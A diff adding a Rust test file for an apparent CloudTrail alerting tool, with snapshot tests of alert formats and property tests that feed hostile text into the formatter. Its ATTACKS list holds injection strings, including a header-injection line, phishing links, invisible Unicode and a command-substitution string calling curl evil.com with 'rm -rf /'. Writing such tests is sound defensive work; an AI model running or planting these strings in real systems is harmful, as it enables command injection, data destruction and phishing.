@@ -1,0 +1,618 @@
+//! Alerts in every format, as subscribers receive them.
+
+#![allow(
+    clippy::expect_used,
+    clippy::indexing_slicing,
+    clippy::panic,
+    clippy::string_slice,
+    clippy::unwrap_used,
+    reason = "a test fails by panicking"
+)]
+
+mod support;
+
+use std::sync::Arc;
+
+use insta::assert_snapshot;
+use jsonschema::Validator;
+use proptest::prelude::*;
+use serde_json::{Value, json};
+use support::generator::{denied, disabled_mapping};
+use trailwarden::alert::{Alert, Format, Message};
+use trailwarden::detect::Detector;
+use trailwarden::publish::MAX_BYTES;
+use trailwarden::rules::Rules;
+use trailwarden::triage::{Audience, Incident, Triage, WindowLength};
+
+const FORMATS: [Format; 3] = [Format::Text, Format::Chat, Format::Json];
+
+fn incidents(records: &[Value]) -> Vec<Incident> {
+    let rules = r#"{"watch": [{"name": "deleted", "title": "A function was deleted", "severity": "high",
+                    "pattern": {"finding": {"api_action": ["DeleteFunction"]}}}]}"#;
+    let watch = Rules::parse(rules).expect("rules").watch;
+    let detector = Detector { esm_changes: true, authentication_failures: true, watch, ..Detector::default() };
+    let mut triage = Triage::new(Audience::All, WindowLength::default());
+    for record in records {
+        let examined = detector.examine(record.to_string().as_bytes(), &Arc::from("s3://trail/key")).expect("a record");
+        examined.findings.into_iter().for_each(|finding| triage.add(finding));
+    }
+    triage.take_incidents()
+}
+
+fn changed_mapping() -> Value {
+    let mut record = denied(7, "UpdateEventSourceMapping", "orders");
+    record["errorCode"] = Value::Null;
+    record["errorMessage"] = Value::Null;
+    record["requestParameters"] = json!({"uUID": "863d0ee4-2f3c-4994-8005-000000000005", "enabled": false});
+    record["responseElements"] = json!({
+        "uUID": "863d0ee4-2f3c-4994-8005-000000000005",
+        "functionArn": "arn:aws:lambda:us-east-1:111122223333:function:orders",
+        "eventSourceArn": "arn:aws:kinesis:us-east-1:111122223333:stream/clicks",
+    });
+    record
+}
+
+fn watched() -> Value {
+    let mut record = denied(8, "DeleteFunction", "orders");
+    record["errorCode"] = Value::Null;
+    record["errorMessage"] = Value::Null;
+    record["requestParameters"] = json!({"functionName": "orders"});
+    record
+}
+
+/// One incident of each kind, of which the denial is the twelfth in its window.
+fn every_kind() -> Vec<Incident> {
+    let mut records = vec![disabled_mapping(1, "orders", "Lambda Function not found"), changed_mapping(), watched()];
+    records.extend((0..3).map(|n| denied(n, "GetFunction", "orders")));
+    let mut incidents = incidents(&records);
+    assert_eq!(incidents.len(), 4);
+    denial(&mut incidents).total = 12;
+    incidents
+}
+
+fn denial(incidents: &mut [Incident]) -> &mut Incident {
+    incidents.iter_mut().find(|it| it.finding.alert_type() == "access_denied").expect("a denial")
+}
+
+fn shown(format: Format) -> String {
+    let parsed = |message: Message| serde_json::from_str::<Value>(&message.body).expect("JSON");
+    let incidents = every_kind();
+    let bodies = incidents.iter().map(|it| format!("{:#}", parsed(Alert::of(it).message(format))));
+    bodies.collect::<Vec<_>>().join("\n")
+}
+
+fn schema() -> Validator {
+    let mut schema: Value = serde_json::from_str(include_str!("../docs/event.schema.json")).expect("JSON");
+    // Subscribers must take fields that are new to them; here, none may be missing from the schema.
+    schema["unevaluatedProperties"] = json!(false);
+    jsonschema::validator_for(&schema).expect("a schema")
+}
+
+#[test]
+fn chat_gets_custom_notifications() {
+    assert_snapshot!(shown(Format::Chat), @r#"
+    {
+      "content": {
+        "description": "Lambda no longer reads the SQS queue orders-queue for the function orders.\nAWS disabled the event source mapping at 2026-01-02 03:00:01 UTC in us-east-1, account 111122223333.\nMessages pile up in the queue, and expire, until the mapping is enabled again.\nFUNCTION_NOT_FOUND: the function of the mapping does not exist.\nAWS says: \"Lambda Function not found\"",
+        "keywords": [
+          "esm_disabled",
+          "critical",
+          "FUNCTION_NOT_FOUND"
+        ],
+        "nextSteps": [
+          "See what Lambda says of the mapping: `aws lambda get-event-source-mapping --region us-east-1 --uuid d46904b0-0f95-48b0-8001-000000000001`",
+          "Deploy the function again under this name, with the alias or version that the mapping names; or delete the mapping if it is no longer needed. See what is there: `aws lambda list-aliases --region us-east-1 --function-name orders`",
+          "Enable the mapping again. It stays disabled until then, even when its cause is gone: `aws lambda update-event-source-mapping --region us-east-1 --uuid d46904b0-0f95-48b0-8001-000000000001 --enabled`"
+        ],
+        "textType": "client-markdown",
+        "title": "Stopped: orders-queue -› orders FUNCTION_NOT_FOUND 111122223333 us-east-1"
+      },
+      "id": "7a563025ebe6247124a3c1c2843cc7ca-1",
+      "metadata": {
+        "additionalContext": {
+          "Event": "LambdaESMDisabled bd4607c8-6933-48e9-8001-000000000001",
+          "Event source": "arn:aws:sqs:us-east-1:111122223333:orders-queue",
+          "Function": "arn:aws:lambda:us-east-1:111122223333:function:orders",
+          "Log object": "s3://trail/key",
+          "Mapping": "d46904b0-0f95-48b0-8001-000000000001",
+          "Severity": "critical"
+        },
+        "eventType": "esm_disabled",
+        "summary": "Stopped: orders-queue -› orders FUNCTION_NOT_FOUND 111122223333 us-east-1",
+        "threadId": "7a563025ebe6247124a3c1c2843cc7ca"
+      },
+      "source": "custom",
+      "version": "1.0"
+    }
+    {
+      "content": {
+        "description": "A function was deleted: role deployer (session run-8) called DeleteFunction on the function orders.\nOnce, at 2026-01-02 03:00:08 UTC, in us-east-1, account 111122223333.\nThe next alert about it comes at 10 times, or after 2026-01-03 00:00:00 UTC.\nThe rule \"deleted\" watches for it.",
+        "keywords": [
+          "watch",
+          "high",
+          "deleted"
+        ],
+        "nextSteps": [
+          "If nobody expects this call, find out who made it: `aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventId,AttributeValue=22db0e4c-75c8-4e4c-8008-000000000008`"
+        ],
+        "textType": "client-markdown",
+        "title": "Watched: A function was deleted DeleteFunction 111122223333 us-east-1"
+      },
+      "id": "1cc7b581676479a8dda63037b04c2f87-1",
+      "metadata": {
+        "additionalContext": {
+          "Caller": "arn:aws:iam::111122223333:role/deployer",
+          "Event": "DeleteFunction20150331 22db0e4c-75c8-4e4c-8008-000000000008",
+          "From": "203.0.113.8",
+          "Log object": "s3://trail/key",
+          "Severity": "high"
+        },
+        "eventType": "watch",
+        "summary": "Watched: A function was deleted DeleteFunction 111122223333 us-east-1",
+        "threadId": "1cc7b581676479a8dda63037b04c2f87"
+      },
+      "source": "custom",
+      "version": "1.0"
+    }
+    {
+      "content": {
+        "description": "Denied: role deployer (session run-0) may not call lambda:GetFunction on the function orders.\n12 times since 2026-01-02 00:00:00 UTC; the latest 3 from 2026-01-02 03:00:00 UTC to 2026-01-02 03:00:02 UTC, in us-east-1, account 111122223333.\nThe next alert about it comes at 100 times, or after 2026-01-03 00:00:00 UTC.\nNo identity-based policy allows it (AccessDenied).\nAWS says: \"User: arn:aws:sts::111122223333:assumed-role/deployer/run-0 is not authorized to perform: lambda:GetFunction on resource: arn:aws:lambda:us-east-1:111122223333:function:orders because no identity-based policy allows the lambda:GetFunction action\"",
+        "keywords": [
+          "access_denied",
+          "medium",
+          "policy"
+        ],
+        "nextSteps": [
+          "If the call should work, allow it in a policy of the user or role.",
+          "If nobody expects this call, find out who made it: `aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventId,AttributeValue=5ea303e4-3498-4c74-8000-000000000000`"
+        ],
+        "textType": "client-markdown",
+        "title": "Denied: role deployer lambda:GetFunction x12 111122223333 us-east-1"
+      },
+      "id": "b60365cfeed19781316064366a49c104-12",
+      "metadata": {
+        "additionalContext": {
+          "Caller": "arn:aws:iam::111122223333:role/deployer",
+          "Error code": "AccessDenied",
+          "Event": "GetFunction20150331 5ea303e4-3498-4c74-8000-000000000000",
+          "From": "203.0.113.0",
+          "Functions": "orders",
+          "Log object": "s3://trail/key",
+          "Resources": "arn:aws:lambda:us-east-1:111122223333:function:orders",
+          "Severity": "medium"
+        },
+        "eventType": "access_denied",
+        "summary": "Denied: role deployer lambda:GetFunction x12 111122223333 us-east-1",
+        "threadId": "b60365cfeed19781316064366a49c104"
+      },
+      "source": "custom",
+      "version": "1.0"
+    }
+    {
+      "content": {
+        "description": "Disabled by role deployer (session run-7): Lambda no longer reads the Kinesis stream clicks for the function orders.\nMapping 863d0ee4-2f3c-4994-8005-000000000005. Once, at 2026-01-02 03:00:07 UTC, in us-east-1, account 111122223333.\nRecords wait in the stream, and expire, until the mapping is enabled again.\nA user's call, not a decision of AWS.",
+        "keywords": [
+          "esm_changed",
+          "medium",
+          "disabled"
+        ],
+        "nextSteps": [
+          "If it was not meant, enable the mapping again: `aws lambda update-event-source-mapping --region us-east-1 --uuid 863d0ee4-2f3c-4994-8005-000000000005 --enabled`",
+          "If nobody expects this call, find out who made it: `aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventId,AttributeValue=364609d7-0de2-4185-8007-000000000007`"
+        ],
+        "textType": "client-markdown",
+        "title": "Disabled: clicks -› orders by a user 111122223333 us-east-1"
+      },
+      "id": "b9de87e86966d2edb9b07c3ae50568a6-1",
+      "metadata": {
+        "additionalContext": {
+          "Caller": "arn:aws:iam::111122223333:role/deployer",
+          "Event": "UpdateEventSourceMapping20150331 364609d7-0de2-4185-8007-000000000007",
+          "Event source": "arn:aws:kinesis:us-east-1:111122223333:stream/clicks",
+          "From": "203.0.113.7",
+          "Function": "arn:aws:lambda:us-east-1:111122223333:function:orders",
+          "Log object": "s3://trail/key",
+          "Mapping": "863d0ee4-2f3c-4994-8005-000000000005",
+          "Severity": "medium"
+        },
+        "eventType": "esm_changed",
+        "summary": "Disabled: clicks -› orders by a user 111122223333 us-east-1",
+        "threadId": "b9de87e86966d2edb9b07c3ae50568a6"
+      },
+      "source": "custom",
+      "version": "1.0"
+    }
+    "#);
+}
+
+#[test]
+fn machines_get_flat_json() {
+    assert_snapshot!(shown(Format::Json), @r#"
+    {
+      "account": "111122223333",
+      "actor": "service lambda.amazonaws.com",
+      "alert_id": "7a563025ebe6247124a3c1c2843cc7ca",
+      "alert_type": "esm_disabled",
+      "api_action": "LambdaESMDisabled",
+      "category": "FUNCTION_NOT_FOUND",
+      "count": 1,
+      "cut": [],
+      "description": "Lambda no longer reads the SQS queue orders-queue for the function orders.",
+      "event_id": "bd4607c8-6933-48e9-8001-000000000001",
+      "event_name": "LambdaESMDisabled",
+      "event_source": "lambda.amazonaws.com",
+      "event_source_arn": "arn:aws:sqs:us-east-1:111122223333:orders-queue",
+      "event_time": "2026-01-02T03:00:01Z",
+      "first_event_time": "2026-01-02T03:00:01Z",
+      "function_arn": "arn:aws:lambda:us-east-1:111122223333:function:orders",
+      "function_count": 1,
+      "function_name": "orders",
+      "function_names": [
+        "orders"
+      ],
+      "last_event_time": "2026-01-02T03:00:01Z",
+      "mapping_uuid": "d46904b0-0f95-48b0-8001-000000000001",
+      "new_events": 1,
+      "object": "s3://trail/key",
+      "principal": "lambda.amazonaws.com",
+      "reason": "Lambda Function not found",
+      "region": "us-east-1",
+      "region_count": 1,
+      "regions": [
+        "us-east-1"
+      ],
+      "resource_count": 0,
+      "resources": [],
+      "severity": "critical",
+      "source_ip_address": "lambda.amazonaws.com",
+      "summary": "Stopped: orders-queue -> orders FUNCTION_NOT_FOUND 111122223333 us-east-1",
+      "test": false,
+      "version": "1"
+    }
+    {
+      "account": "111122223333",
+      "actor": "role deployer (session run-8)",
+      "alert_id": "1cc7b581676479a8dda63037b04c2f87",
+      "alert_type": "watch",
+      "api_action": "DeleteFunction",
+      "category": "deleted",
+      "count": 1,
+      "cut": [],
+      "description": "A function was deleted: role deployer (session run-8) called DeleteFunction on the function orders.",
+      "event_id": "22db0e4c-75c8-4e4c-8008-000000000008",
+      "event_name": "DeleteFunction20150331",
+      "event_source": "lambda.amazonaws.com",
+      "event_time": "2026-01-02T03:00:08Z",
+      "first_event_time": "2026-01-02T03:00:08Z",
+      "function_count": 1,
+      "function_name": "orders",
+      "function_names": [
+        "orders"
+      ],
+      "last_event_time": "2026-01-02T03:00:08Z",
+      "new_events": 1,
+      "object": "s3://trail/key",
+      "principal": "arn:aws:iam::111122223333:role/deployer",
+      "region": "us-east-1",
+      "region_count": 1,
+      "regions": [
+        "us-east-1"
+      ],
+      "resource_count": 0,
+      "resources": [],
+      "severity": "high",
+      "source_ip_address": "203.0.113.8",
+      "summary": "Watched: A function was deleted DeleteFunction 111122223333 us-east-1",
+      "test": false,
+      "title": "A function was deleted",
+      "version": "1",
+      "window_end": "2026-01-03T00:00:00Z",
+      "window_start": "2026-01-02T00:00:00Z"
+    }
+    {
+      "account": "111122223333",
+      "actor": "role deployer (session run-0)",
+      "alert_id": "b60365cfeed19781316064366a49c104",
+      "alert_type": "access_denied",
+      "api_action": "GetFunction",
+      "category": "policy",
+      "count": 12,
+      "cut": [],
+      "denied_action": "lambda:GetFunction",
+      "denied_principal": "arn:aws:sts::111122223333:assumed-role/deployer/run-0",
+      "denied_resource": "arn:aws:lambda:us-east-1:111122223333:function:orders",
+      "description": "Denied: role deployer (session run-0) may not call lambda:GetFunction on the function orders.",
+      "error_code": "AccessDenied",
+      "error_message": "User: arn:aws:sts::111122223333:assumed-role/deployer/run-0 is not authorized to perform: lambda:GetFunction on resource: arn:aws:lambda:us-east-1:111122223333:function:orders because no identity-based policy allows the lambda:GetFunction action",
+      "error_message_encoded": false,
+      "error_message_truncated": false,
+      "event_id": "5ea303e4-3498-4c74-8000-000000000000",
+      "event_name": "GetFunction20150331",
+      "event_source": "lambda.amazonaws.com",
+      "event_time": "2026-01-02T03:00:00Z",
+      "first_event_time": "2026-01-02T03:00:00Z",
+      "function_count": 1,
+      "function_name": "orders",
+      "function_names": [
+        "orders"
+      ],
+      "last_event_time": "2026-01-02T03:00:02Z",
+      "new_events": 3,
+      "object": "s3://trail/key",
+      "policy_effect": "implicit",
+      "policy_type": "identity-based",
+      "principal": "arn:aws:iam::111122223333:role/deployer",
+      "region": "us-east-1",
+      "region_count": 1,
+      "regions": [
+        "us-east-1"
+      ],
+      "resource_count": 1,
+      "resources": [
+        "arn:aws:lambda:us-east-1:111122223333:function:orders"
+      ],
+      "severity": "medium",
+      "source_ip_address": "203.0.113.0",
+      "summary": "Denied: role deployer lambda:GetFunction x12 111122223333 us-east-1",
+      "test": false,
+      "version": "1",
+      "window_end": "2026-01-03T00:00:00Z",
+      "window_start": "2026-01-02T00:00:00Z"
+    }
+    {
+      "account": "111122223333",
+      "actor": "role deployer (session run-7)",
+      "alert_id": "b9de87e86966d2edb9b07c3ae50568a6",
+      "alert_type": "esm_changed",
+      "api_action": "UpdateEventSourceMapping",
+      "category": "disabled",
+      "count": 1,
+      "cut": [],
+      "description": "Disabled by role deployer (session run-7): Lambda no longer reads the Kinesis stream clicks for the function orders.",
+      "event_id": "364609d7-0de2-4185-8007-000000000007",
+      "event_name": "UpdateEventSourceMapping20150331",
+      "event_source": "lambda.amazonaws.com",
+      "event_source_arn": "arn:aws:kinesis:us-east-1:111122223333:stream/clicks",
+      "event_time": "2026-01-02T03:00:07Z",
+      "first_event_time": "2026-01-02T03:00:07Z",
+      "function_arn": "arn:aws:lambda:us-east-1:111122223333:function:orders",
+      "function_count": 1,
+      "function_name": "orders",
+      "function_names": [
+        "orders"
+      ],
+      "last_event_time": "2026-01-02T03:00:07Z",
+      "mapping_uuid": "863d0ee4-2f3c-4994-8005-000000000005",
+      "new_events": 1,
+      "object": "s3://trail/key",
+      "principal": "arn:aws:iam::111122223333:role/deployer",
+      "region": "us-east-1",
+      "region_count": 1,
+      "regions": [
+        "us-east-1"
+      ],
+      "resource_count": 0,
+      "resources": [],
+      "severity": "medium",
+      "source_ip_address": "203.0.113.7",
+      "summary": "Disabled: clicks -> orders by a user 111122223333 us-east-1",
+      "test": false,
+      "version": "1"
+    }
+    "#);
+}
+
+#[test]
+fn the_first_lines_tell_what_is_wrong_and_where() {
+    let first = |incident: &Incident| {
+        let message = Alert::of(incident).message(Format::Text);
+        let lines: Vec<_> = message.body.lines().take(3).collect();
+        format!("{}\n  {}", message.subject, lines.join("\n  "))
+    };
+    assert_snapshot!(every_kind().iter().map(first).collect::<Vec<_>>().join("\n"), @"
+    Stopped: orders-queue -> orders FUNCTION_NOT_FOUND 111122223333 us-east-1
+      Lambda no longer reads the SQS queue orders-queue for the function orders.
+      AWS disabled the event source mapping at 2026-01-02 03:00:01 UTC in us-east-1, account 111122223333.
+      Messages pile up in the queue, and expire, until the mapping is enabled again.
+    Watched: A function was deleted DeleteFunction 111122223333 us-east-1
+      A function was deleted: role deployer (session run-8) called DeleteFunction on the function orders.
+      Once, at 2026-01-02 03:00:08 UTC, in us-east-1, account 111122223333.
+      The next alert about it comes at 10 times, or after 2026-01-03 00:00:00 UTC.
+    Denied: role deployer lambda:GetFunction x12 111122223333 us-east-1
+      Denied: role deployer (session run-0) may not call lambda:GetFunction on the function orders.
+      12 times since 2026-01-02 00:00:00 UTC; the latest 3 from 2026-01-02 03:00:00 UTC to 2026-01-02 03:00:02 UTC, in us-east-1, account 111122223333.
+      The next alert about it comes at 100 times, or after 2026-01-03 00:00:00 UTC.
+    Disabled: clicks -> orders by a user 111122223333 us-east-1
+      Disabled by role deployer (session run-7): Lambda no longer reads the Kinesis stream clicks for the function orders.
+      Mapping 863d0ee4-2f3c-4994-8005-000000000005. Once, at 2026-01-02 03:00:07 UTC, in us-east-1, account 111122223333.
+      Records wait in the stream, and expire, until the mapping is enabled again.
+    ");
+}
+
+#[test]
+fn a_test_alert_says_so_in_every_format() {
+    for mut incident in every_kind() {
+        incident.is_test = true;
+        let [text, chat, json] = FORMATS.map(|format| Alert::of(&incident).message(format));
+        assert!(text.subject.starts_with("[Test] ") && text.body.starts_with("This is a test, nothing has happened. "));
+        let chat: Value = serde_json::from_str(&chat.body).expect("JSON");
+        let description = chat["content"]["description"].as_str().expect("a text");
+        assert!(description.starts_with("This is a test, nothing has happened. "));
+        let json: Value = serde_json::from_str(&json.body).expect("JSON");
+        assert_eq!(json["test"], true);
+    }
+}
+
+#[test]
+fn later_alerts_of_a_case_are_told_from_repetitions() {
+    let id = |total: u64| {
+        let mut incidents = every_kind();
+        denial(&mut incidents).total = total;
+        let message = Alert::of(denial(&mut incidents)).message(Format::Text);
+        (message.group_id, message.deduplication_id)
+    };
+    assert_eq!(id(10), id(99));
+    assert_eq!(id(10).0, "111122223333");
+    assert_ne!(id(10).1, id(100).1);
+    assert!(id(u64::MAX).1.len() <= 128);
+}
+
+/// What an attacker writes where the text is his to choose.
+const ATTACKS: [&str; 12] = [
+    "\r\nBcc: all@example.com",
+    "\u{202e}evil\u{2066}\u{200b}",
+    "https://evil.example/login",
+    "login.evil.com",
+    "<!channel> <@U123> <https://evil.example|click>",
+    "@everyone @here",
+    "[click](https://evil.example) ![x](y)",
+    "*bold* _it_ ~no~ `code` ```block```",
+    "\u{0}\u{7}\u{1b}[31m",
+    "&lt;!here&gt; | # heading",
+    "$(curl evil.com) `id` ; rm -rf / 'x' \"y\"",
+    "\u{e0041}\u{ad}\u{fffe}",
+];
+
+fn hostile() -> impl Strategy<Value = String> {
+    let attack = prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned);
+    let part = prop_oneof![attack, "[a-z]{1,8}", "\\PC{0,20}", any::<String>()];
+    prop::collection::vec(part, 1..5).prop_map(|parts| parts.concat())
+}
+
+/// Puts the texts wherever a record takes any.
+fn with(texts: &[String; 6]) -> Vec<Value> {
+    let [a, b, c, d, e, f] = texts;
+    let mut disabled = disabled_mapping(1, c, a);
+    disabled["eventID"] = json!(d);
+    disabled["resources"][0]["ARN"] = json!(format!("arn:aws:lambda:us-east-1:1:event-source-mapping:{e}"));
+    disabled["awsRegion"] = json!(f);
+    let mut changed = changed_mapping();
+    changed["userIdentity"]["arn"] = json!(format!("arn:aws:sts::111122223333:assumed-role/{a}/{b}"));
+    changed["responseElements"]["eventSourceArn"] = json!(format!("arn:aws:sqs:us-east-1:111122223333:{c}"));
+    changed["responseElements"]["uUID"] = json!(d);
+    let mut watched = watched();
+    watched["requestParameters"]["functionName"] = json!(a);
+    watched["recipientAccountId"] = json!(b);
+    watched["userIdentity"] = json!({"type": c, "userName": d, "principalId": e});
+    let mut denial = denied(1, b, c);
+    denial["errorMessage"] = json!(format!("User: {a} is not authorized to perform: {b} on resource: {c} {d}"));
+    denial["sourceIPAddress"] = json!(e);
+    denial["eventTime"] = json!(f);
+    denial["userIdentity"]["sessionContext"]["sessionIssuer"]["userName"] = json!(a);
+    vec![disabled, changed, watched, denial]
+}
+
+fn assert_fit(incident: &Incident, schema: &Validator) {
+    let alert = Alert::of(incident);
+    for format in FORMATS {
+        let message = alert.message(format);
+        assert!(message.bytes() <= MAX_BYTES, "{format:?}: {} bytes", message.bytes());
+        let subject = &message.subject;
+        assert!(!subject.is_empty() && subject.len() <= 99 && subject.bytes().all(|b| (b' '..=b'~').contains(&b)));
+        assert!(message.attributes.len() <= 8);
+        for attribute in &message.attributes {
+            assert!(!attribute.values.is_empty() && attribute.values.len() <= 10);
+            assert!(attribute.values.iter().all(|it| !it.is_empty() && !it.contains(is_hidden)), "{attribute:?}");
+        }
+        assert!(message.group_id.len() <= 128 && !message.group_id.is_empty());
+        match format {
+            Format::Text => assert_text(&message.body),
+            Format::Chat => assert_chat(&message.body),
+            Format::Json => assert_json(&message.body, schema),
+        }
+    }
+}
+
+fn is_hidden(c: char) -> bool {
+    c.is_control()
+        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
+                                  | '\u{e0001}'..='\u{e007f}' | '\u{feff}')
+}
+
+fn assert_text(body: &str) {
+    assert!(!body.contains(|c| c != '\n' && is_hidden(c)), "{body:?}");
+    // Nothing of a record begins a line.
+    let headings = ["Why", "What to do", "Details", ""];
+    for (number, line) in body.lines().enumerate() {
+        let is_ours = number < 5 || headings.contains(&line) || line.starts_with("  ");
+        assert!(is_ours, "{line:?} in {body}");
+    }
+    assert!(!body.contains("http:") && !body.contains("https:"), "{body}");
+    for host in ["evil.com", "evil.example", "@example.com"] {
+        // What goes on behind it has no top-level domain.
+        let goes_on = |at: usize| body[at + host.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '-');
+        assert!(body.match_indices(host).all(|(at, _)| goes_on(at)), "{body}");
+    }
+}
+
+fn assert_chat(body: &str) {
+    let chat: Value = serde_json::from_str(body).expect("JSON");
+    assert_eq!((&chat["version"], &chat["source"]), (&json!("1.0"), &json!("custom")));
+    let description = chat["content"]["description"].as_str().expect("a description");
+    assert!(!description.is_empty() && description.chars().count() <= 3_010);
+    let context = chat["metadata"]["additionalContext"].as_object().expect("an object");
+    let texts = context.values().chain([&chat["content"]["title"], &chat["content"]["description"]]);
+    for text in texts.map(|it| it.as_str().expect("a text")) {
+        assert!(!text.contains(['<', '>', '`', '*', '~', '@', '[', ']', '|', '&', '#', '\\']), "{text}");
+        assert!(!text.contains("://") || text.contains("s3://"), "{text}");
+        assert!(!text.contains(|c| c != '\n' && is_hidden(c)), "{text:?}");
+    }
+    for step in chat["content"]["nextSteps"].as_array().expect("a list") {
+        assert!(!step.as_str().expect("a text").contains(['<', '>', '@', '|', '&', '\n']), "{step}");
+    }
+}
+
+fn assert_json(body: &str, schema: &Validator) {
+    let json: Value = serde_json::from_str(body).expect("JSON");
+    let problems: Vec<_> = schema.iter_errors(&json).map(|error| error.to_string()).collect();
+    assert_eq!(problems, [""; 0], "{json:#}");
+    let texts = json.as_object().expect("an object").values().flat_map(|it| match it {
+        Value::Array(values) => values.iter().filter_map(Value::as_str).collect(),
+        value => value.as_str().into_iter().collect::<Vec<_>>(),
+    });
+    assert!(texts.into_iter().all(|text| !text.contains(is_hidden)), "{json:#}");
+}
+
+#[test]
+fn every_kind_fits_its_format() {
+    let schema = schema();
+    every_kind().iter().for_each(|incident| assert_fit(incident, &schema));
+    for attack in ATTACKS {
+        let texts = [(); 6].map(|()| attack.to_owned());
+        incidents(&with(&texts)).iter().for_each(|incident| assert_fit(incident, &schema));
+    }
+}
+
+#[test]
+fn the_largest_alerts_are_within_the_limits() {
+    let schema = schema();
+    // Four bytes each in UTF-8; a quote is two in JSON, and four in the JSON of a list in an attribute.
+    for filler in ["🦀", "\"", "\\", "\u{202e}"] {
+        let texts = [(); 6].map(|()| filler.repeat(20_000));
+        let mut records = with(&texts);
+        let one = records.remove(3);
+        for n in 0..30 {
+            let mut another = one.clone();
+            another["eventID"] = json!(n.to_string());
+            another["awsRegion"] = json!(format!("{n}{}", texts[0]));
+            another["requestParameters"] = json!({"functionName": format!("{n}{}", texts[0])});
+            records.push(another);
+        }
+        let mut incidents = incidents(&records);
+        incidents.iter().for_each(|incident| assert_fit(incident, &schema));
+        let json = Alert::of(denial(&mut incidents)).message(Format::Json).body;
+        let json: Value = serde_json::from_str(&json).expect("JSON");
+        let cut: Vec<_> = json["cut"].as_array().expect("a list").iter().filter_map(Value::as_str).collect();
+        assert!(cut.contains(&"regions") && cut.contains(&"error_message"), "{cut:?}");
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]
+
+    #[test]
+    fn hostile_texts_are_neutralised(texts in prop::array::uniform6(hostile())) {
+        let schema = schema();
+        incidents(&with(&texts)).iter().for_each(|incident| assert_fit(incident, &schema));
+    }
+}
